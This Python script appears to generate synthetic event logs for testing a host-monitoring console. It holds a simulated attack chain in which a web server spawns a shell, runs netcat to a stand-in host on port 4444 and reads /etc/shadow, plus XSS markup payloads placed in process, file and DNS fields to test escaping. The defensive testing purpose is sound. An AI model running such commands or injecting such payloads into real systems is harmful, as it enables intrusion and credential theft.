#!/usr/bin/env python3
"""Events for tests/collector/test_console.sh (JSON lines in the event contract, on stdout; the
next seq on stderr), built on bench/gen_events.py's Host:

  console_events.py learn   --seq-start S [--rounds N]   herd web (m1..m5 on host vm1): N rounds of the
                                            web workload, and a heartbeat whose manifest says
                                            file.open is unavailable (the members run blind)
  console_events.py attack  --seq-start S   on m3, one process chain with real keys: nginx
                                            spawns a shell, the shell runs nc to 203.0.113.7:4444
                                            and cat, which reads /etc/shadow
  console_events.py hostile --seq-start S   on m4: an exec whose exe, argv (with bytes that are
                                            not UTF-8, written \\u00XX as the agent does), cwd
                                            and a file path and a DNS name carry markup
"""
import argparse, json, os, sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "bench"))
import gen_events  # noqa: E402

HOSTILE_EXE = "/tmp/x\"><img src=x onerror=\"document.title='pwned'\">"
HOSTILE_ARGS = ["sh", "-c", "<script>document.title='pwned'</script>", "it's \"quoted\" & <b>bold</b>",
                "bad-\xff\xfe-bytes"]
HOSTILE_PATH = "/var/www/<svg onload=\"document.title='pwned'\">.php"
HOSTILE_DNS = "<img src=x onerror=alert(1)>.evil.example"

MANIFEST = {
    "process.exec": {"state": "attached", "hook": "tp_btf", "reason": None},
    "net.connect": {"state": "attached", "hook": "tracepoint", "reason": None},
    "file.open": {"state": "unavailable", "hook": None, "reason": "no candidate attached (test manifest)"},
    "user.shell": {"state": "disabled", "hook": None, "reason": "disabled by config"},
}


def keyed(line, key, parent_key=None, parent_exe=None):
    e = json.loads(line)
    e["proc"]["key"] = key
    if parent_key:
        e["parent"]["key"] = parent_key
        e["parent"]["exe"] = parent_exe
    return json.dumps(e, separators=(",", ":"))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["learn", "attack", "hostile"])
    ap.add_argument("--seq-start", type=int, default=1)
    ap.add_argument("--rounds", type=int, default=3)
    a = ap.parse_args()
    h = gen_events.Host("vm1", "web", a.seq_start)
    out = []
    ok = {"exec": {"result": 0, "setuid": False, "fileless": False}}
    if a.mode == "learn":
        for _ in range(a.rounds):
            for m in ["m1", "m2", "m3", "m4", "m5"]:
                gen_events.baseline_round(h, m, out)
        out.append(h.ev("agent.heartbeat", None, "/usr/sbin/herdwatch-agent", ["herdwatch-agent"],
                        "/usr/lib/systemd/systemd", 0,
                        {"agent": {"version": "0.1-test", "probes": MANIFEST, "stats": {}}}))
    elif a.mode == "attack":
        m, nginx, sh, nc, cat = "m3", "k-nginx-1", "k-sh-2", "k-nc-3", "k-cat-4"
        out.append(keyed(h.ev("process.exec", m, "/usr/bin/dash", ["sh", "-c", "id; nc 203.0.113.7 4444"],
                              "/usr/sbin/nginx", 33, ok), sh, nginx, "/usr/sbin/nginx"))
        out.append(keyed(h.ev("process.exec", m, "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "4444"],
                              "/usr/bin/dash", 33, ok), nc, sh, "/usr/bin/dash"))
        out.append(keyed(h.ev("net.connect", m, "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "4444"],
                              "/usr/bin/dash", 33, gen_events.net("10.0.1.5", 40404, "203.0.113.7", 4444)),
                         nc, sh, "/usr/bin/dash"))
        out.append(keyed(h.ev("process.exec", m, "/usr/bin/cat", ["cat", "/etc/shadow"], "/usr/bin/dash", 0, ok),
                         cat, sh, "/usr/bin/dash"))
        out.append(keyed(h.ev("file.open", m, "/usr/bin/cat", ["cat", "/etc/shadow"], "/usr/bin/dash", 0,
                              {"file": {"path": "/etc/shadow", "op": "open", "flags": "O_RDONLY", "result": 0,
                                        "watch": "/etc/shadow"}}), cat, sh, "/usr/bin/dash"))
    else:
        m, k = "m4", "k-hostile-9"
        out.append(keyed(h.ev("process.exec", m, HOSTILE_EXE, HOSTILE_ARGS, "/usr/sbin/nginx", 33, ok),
                         k, "k-nginx-1", "/usr/sbin/nginx"))
        out.append(keyed(h.ev("file.open", m, HOSTILE_EXE, HOSTILE_ARGS, "/usr/sbin/nginx", 33,
                              {"file": {"path": HOSTILE_PATH, "op": "open", "flags": "O_RDONLY", "result": 0,
                                        "watch": "/var/www/"}}), k, "k-nginx-1", "/usr/sbin/nginx"))
        out.append(keyed(h.ev("net.dns", m, HOSTILE_EXE, HOSTILE_ARGS, "/usr/sbin/nginx", 33,
                              {"dns": {"query": HOSTILE_DNS, "type": "A",
                                       "server": {"ip": "10.0.0.53", "port": 53}}}),
                         k, "k-nginx-1", "/usr/sbin/nginx"))
    sys.stdout.write("\n".join(out) + "\n")
    sys.stderr.write("%d\n" % h.seq)


if __name__ == "__main__":
    main()
